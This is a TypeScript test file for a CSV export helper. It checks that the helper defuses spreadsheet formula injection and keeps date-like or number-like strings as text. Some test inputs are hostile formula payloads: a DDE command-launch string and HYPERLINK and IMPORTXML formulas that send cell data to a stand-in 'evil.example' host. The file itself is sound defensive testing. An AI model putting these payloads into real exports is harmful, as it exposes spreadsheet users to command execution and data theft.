import { describe, expect, test } from 'vitest';
import { csvCell, csvLines } from '../../../server/contract/csv.ts';

/** Reads one line of CSV as RFC 4180 has it. */
function readLine(line: string): string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"(?:,|\r\n)/g)].map(([, cell = '']) =>
    cell.replaceAll('""', '"'),
  );
}

describe('a cell of a CSV file', () => {
  test.each([
    '=1+1',
    '+49 30 1234',
    '-2',
    '@SUM(1)',
    '|calc',
    '%0A',
    '\t=1',
    '\r=1',
    '\n=1',
    '  =1+1',
    '\u00a0=1+1',
    '\u200b=1+1',
    '\ufeff=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    "'=1+1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    '=IMPORTXML(CONCAT("https://evil.example?",A1),"//a")',
  ])('of %j runs as no formula, and says the same', (text) => {
    const [cell = ''] = readLine(`${csvCell(text)}\r\n`);
    expect(cell).not.toMatch(/^["\s\u200b\ufeff]*[=+\-@|%＝＋－＠]/u);
    expect(cell).toBe(`'${text}`);
  });

  test.each(['Ada Lövgren', "O'Brien", 'נועה בן־דוד', 'a,b;c', 'x=1', 'me@contoso.example', ''])(
    'of %j stays as it is',
    (text) => {
      expect(readLine(`${csvCell(text)}\r\n`)).toEqual([text]);
    },
  );

  test.each([
    ['007', 'loses its zeros'],
    ['118234567890123456789', 'loses its end'],
    ['1-2', 'becomes a day'],
    ['3/4', 'becomes a day'],
    ['1:2', 'becomes a time'],
    ['12.30 pm', 'becomes a time'],
    ['50 12%', 'becomes a number'],
    ['1E5', 'becomes 100000'],
    ['MARCH1', 'becomes a day'],
    ['1. Mai', 'becomes a day'],
    ['Sept-2', 'becomes a day'],
  ])('of %j, which %s, stays a text', (text) => {
    expect(readLine(`${csvCell(text)}\r\n`)).toEqual([`'${text}`]);
  });

  test.each([
    '201',
    '70010011',
    '2026-11-20T14:02:00.000Z',
    'Mars Inc',
    '3M',
    'dbid:1-2',
    '1 Contoso',
  ])('of %j is what it was when it is read back, without a mark', (text) => {
    expect(readLine(`${csvCell(text)}\r\n`)).toEqual([text]);
  });

  test('stands apart by the separator of the country', () => {
    expect(csvLines([['a;b', 1, 'c']], ';')).toBe('"a;b";1;"c"\r\n');
  });

  test('keeps quotes and line breaks inside itself', () => {
    expect(csvCell('say "no",\r\nor not')).toBe('"say ""no"",\r\nor not"');
    expect(csvLines([['a', 3, null]])).toBe('"a",3,""\r\n');
  });
});
